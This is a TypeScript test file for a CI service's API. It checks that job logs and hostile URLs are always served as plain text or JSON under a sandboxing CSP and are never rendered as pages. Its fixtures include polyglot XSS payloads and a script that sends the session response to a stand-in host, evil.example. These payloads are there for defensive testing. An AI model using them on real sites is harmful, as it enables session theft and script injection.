// What a hostile job prints, as a browser would be sent it by a real server: HTML, SVG and texts that several programs read as theirs.
// However a log is asked for, no answer may be taken for a page.
import { connect } from "node:net";
import { afterAll, beforeAll, expect, it } from "vitest";
import type { Run } from "../src/contracts/http/run.ts";
import type { Grant, Registered } from "../src/contracts/http/runner.ts";
import { missingWords } from "../src/testing/browser-words.ts";
import { Site } from "./fixture-site.ts";
import { until } from "./fixture-until.ts";
import { send } from "./fixture-wire.ts";

const script = "<script>fetch('/v1/session').then(r=>r.text()).then(t=>location='//evil.example/?'+t)</script>";
const utf16 = (text: string) => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, "utf16le")]);

/** Beginnings by which browsers and viewers have guessed a type. */
const logs: Record<string, Buffer> = {
	html: Buffer.from(`<!doctype html><title>passed</title>${script}\n`),
	svg: Buffer.from(`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${script}</svg>\n`),
	stylesheet: Buffer.from(`<?xml-stylesheet type="text/xsl" href="?tail=9"?><html>${script}</html>\n`),
	"GIF and script": Buffer.from(`GIF89a/*${"\0".repeat(20)}*/=1;alert(1)//${script}\n`, "latin1"),
	"PDF and HTML": Buffer.from(`%PDF-1.7\n1 0 obj <</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>\n${script}\n`),
	"UTF-7": Buffer.from("+ADw-script+AD4-alert(1)+ADw-/script+AD4-\n"),
	"UTF-16 by its mark": utf16(`<html>${script}</html>\n`),
	"a mail's page": Buffer.from(`MIME-Version: 1.0\nContent-Type: text/html\n\n${script}\n`),
	"terminal's escapes": Buffer.from(`\u001b]8;;javascript:alert(1)\u0007click\u001b]8;;\u0007\u001b[2J${script}\n`),
};

const path = "/v1/repos/acme/web";
const jobs = new Map<string, Grant>();
let site: Site;
let token: string;

beforeAll(async () => {
	site = await Site.open();
	token = site.ready.operatorToken;
	const request = { token, json: { name: "plain", capacity: 20 } };
	const runner = await send<Registered>("POST", urlOf("/v1/pools/acme/default/runners"), request);
	for (const name of Object.keys(logs)) {
		const run = await send<Run>("POST", urlOf(`${path}/runs`), { token, json: { jobs: [{ key: "a", run: "true" }] } });
		expect(run.status).toBe(201);
		const json = { waitSeconds: 10, leases: [...jobs.values()].map(({ lease }) => lease.id) };
		const { body: grant } = await send<Grant>("POST", urlOf("/v1/runner/acquire"), { token: runner.body.token, json });
		const call = { token: grant.lease.token };
		expect((await send("POST", urlOf("/v1/lease/start"), { ...call, json: {} })).status).toBe(200);
		const bytes = new Uint8Array(logs[name] ?? []);
		const append = { ...call, headers: { "upload-offset": "0" }, bytes };
		expect((await send("PATCH", urlOf("/v1/lease/log"), append)).status).toBe(204);
		jobs.set(name, grant);
	}
});
afterAll(() => site.close());

function urlOf(place: string): string {
	return site.ready.url + place;
}

/** The ways to ask, each with what the answer's type must be. */
const ways: [way: string, headers: Record<string, string>, type: string][] = [
	["", {}, "text/plain; charset=utf-8"],
	["", { accept: "text/html,*/*", "sec-fetch-dest": "document" }, "text/plain; charset=utf-8"],
	["", { range: "bytes=0-30" }, "text/plain; charset=utf-8"],
	["?tail=5", {}, "text/plain; charset=utf-8"],
	["?timestamps=1", {}, "text/plain; charset=utf-8"],
	["?download=1", {}, "text/plain; charset=utf-8"],
	["?format=ndjson", {}, "application/x-ndjson"],
	["/search?q=a", {}, "application/json"],
	["/live", { accept: "text/event-stream" }, "text/event-stream"],
];

async function expectNoPage(when: string): Promise<void> {
	for (const [name, grant] of jobs) {
		for (const [way, headers, type] of ways) {
			for (const method of way === "/live" ? ["GET"] : ["GET", "HEAD"]) {
				const leave = new AbortController();
				const url = urlOf(`${path}/jobs/${grant.job.id}/attempts/1/log${way}`);
				const authorization = `Bearer ${token}`;
				const answer = await fetch(url, { method, headers: { authorization, ...headers }, signal: leave.signal });
				const at = [when, name, method, way, headers];
				expect([...at, answer.ok, answer.headers.get("content-type")]).toEqual([...at, true, type]);
				expect([...at, missingWords(answer.headers)]).toEqual([...at, []]);
				expect(answer.headers.get("content-security-policy")).toMatch(/default-src 'none'.*; sandbox$/);
				if (way === "?download=1")
					expect(answer.headers.get("content-disposition")).toMatch(/^attachment; filename="acme-web-[\w-]+-1\.log"$/);
				const isWhole = way === "" && method === "GET" && headers.range === undefined;
				if (isWhole) expect(Buffer.from(await answer.arrayBuffer())).toEqual(logs[name]);
				leave.abort();
			}
		}
	}
}

it("[A156] a raw log is never a page, whatever it holds and however it is asked for, while it grows and once it is sealed", async () => {
	await expectNoPage("growing");
	for (const [name, { lease }] of jobs) {
		const json = { outcome: "passed", exitCode: 0, logLength: logs[name]?.length };
		expect((await send("POST", urlOf("/v1/lease/finish"), { token: lease.token, json })).status).toBe(200);
	}
	const first = urlOf(`${path}/jobs/${jobs.get("html")?.job.id}/attempts/1/log`);
	const last = urlOf(`${path}/jobs/${[...jobs.values()].at(-1)?.job.id}/attempts/1/log`);
	const tagOf = async (url: string) => (await send("HEAD", url, { token })).headers.get("etag");
	await until("the logs are sealed", async () => (await tagOf(first)) !== null && (await tagOf(last)) !== null);
	await expectNoPage("sealed");
	const known = await send("GET", first, { token, headers: { "if-none-match": String(await tagOf(first)) } });
	expect([known.status, missingWords(known.headers)]).toEqual([304, []]);
});

it("[A157] a sealed log is kept by its reader's own cache for the same credentials, one that grows by nobody", async () => {
	const grant = [...jobs.values()][0];
	const sealed = await send("GET", urlOf(`${path}/jobs/${grant?.job.id}/attempts/1/log`), { token });
	expect(sealed.headers.get("cache-control")).toBe("private, max-age=86400, immutable");
	expect(sealed.headers.get("vary")).toBe("Authorization, Cookie");
	const refused = await send("GET", urlOf(`${path}/jobs/${grant?.job.id}/attempts/1/log`), { token: "nobody's" });
	expect([refused.status, refused.headers.get("cache-control")]).toEqual([401, "no-store"]);
	for (const place of ["/healthz", path, `${path}/runs`, "/v1/tokens?owner=acme", "/metrics"])
		expect([place, (await send("GET", urlOf(place), { token })).headers.get("cache-control")]).toEqual([
			place,
			"no-store",
		]);
	expect((await send("GET", urlOf("/openapi.json"), { token })).headers.get("cache-control")).toBe(
		"public, max-age=60",
	);
});

it("[A151][A152] a hostile path or name is repeated in JSON alone: where a page is served for it, that says nothing of it", async () => {
	const hostile = encodeURIComponent(`"><svg onload=alert(1)>${script}`);
	for (const [place, isPage] of [
		[`/${hostile}`, true],
		[`/v1/repos/${hostile}/x`, false],
		[`${path}?${hostile}=1`, false],
		[`${path}/runs?ref=${hostile}`, false],
	] as const) {
		for (const accept of ["text/html", "application/json"]) {
			const answer = await fetch(urlOf(place), { headers: { authorization: `Bearer ${token}`, accept } });
			const [type = ""] = answer.headers.get("content-type")?.split(";") ?? [];
			const isShown = isPage && accept === "text/html";
			const wanted = isShown ? ["text/html"] : ["application/json", "application/problem+json"];
			expect([place, accept, wanted]).toEqual([place, accept, expect.arrayContaining([type])]);
			expect([place, accept, missingWords(answer.headers, { isPublic: isShown })]).toEqual([place, accept, []]);
			const text = await answer.text();
			if (isShown) expect(text).not.toContain("alert(1)");
			else JSON.parse(text);
		}
	}
});

it("[A151] what the runtime itself refuses, before the Worker hears of it, is no page either", async () => {
	const { hostname, port } = new URL(site.ready.url);
	for (const head of [
		"GET /<script>alert(1)</script> HTTP/1.1\r\nHost: <svg>",
		"<script>alert(1)</script>",
		"GET / HTTP/9.9",
	]) {
		const answer = await new Promise<string>((resolve, reject) => {
			const socket = connect(Number(port), hostname, () => socket.end(`${head}\r\n\r\n`));
			const parts: Buffer[] = [];
			socket.on("data", (part) => parts.push(part)).on("error", reject);
			socket.on("close", () => resolve(Buffer.concat(parts).toString("latin1")));
		});
		expect([head, answer]).toEqual([head, expect.stringMatching(/^HTTP\/1\.1 [45]\d\d /)]);
		const [words = "", body = ""] = answer.split("\r\n\r\n");
		expect([head, /^content-type: *(.*)$/im.exec(words)?.[1]]).toEqual([
			head,
			expect.stringMatching(/^text\/plain|problem\+json$/),
		]);
		expect(body).not.toContain("<script>");
	}
});
